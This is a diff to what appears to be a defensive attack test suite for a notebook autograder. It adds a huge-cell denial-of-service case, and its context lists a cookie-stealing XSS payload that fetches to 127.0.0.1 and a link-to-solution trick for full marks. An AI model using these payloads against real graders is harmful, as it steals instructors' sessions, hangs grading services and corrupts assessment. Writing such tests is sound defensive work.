@@ -214,6 +214,12 @@ def junk_cells(notebook: dict) -> dict:
     return notebook
 
 
+def giant_cell(notebook: dict) -> dict:
+    """Below the answer stand a hundred thousand statements, for whoever reads the source."""
+    _of(notebook, PAINT)["source"] += "a = 1\n" * 100_000
+    return notebook
+
+
 def scripts(notebook: dict) -> dict:
     """Outputs and text that would run in the browser of the person who opens the autograded notebook."""
     script = "<script>fetch('http://127.0.0.1/?' + document.cookie)</script><img src=x onerror=alert(1)>"
@@ -287,6 +293,9 @@ ATTACKS = [
            notebook=deep_json, paint=("crashed",), size=("crashed",), flag="not a notebook"),
     Attack("notebooks-junk", "Matching hundreds of odd cells by likeness takes the trusted side for ever.",
            notebook=junk_cells, paint=ABSENT, size=ABSENT, flag="put back"),
+    Attack("notebooks-giant-cell", "Reading the source takes minutes and gigabytes on the trusted side.",
+           notebook=giant_cell, paint=(*ABSENT, "too slow"), flag=r"\blong|\blarge",
+           open="a cell of any length is parsed on the trusted side"),
     Attack("notebooks-scripts", "A script in an output runs in the instructor's browser, beside the formgrader.",
            notebook=scripts),
     Attack("notebooks-link-to-solution", "A link in place of a notebook: the model solution is graded, full marks.",
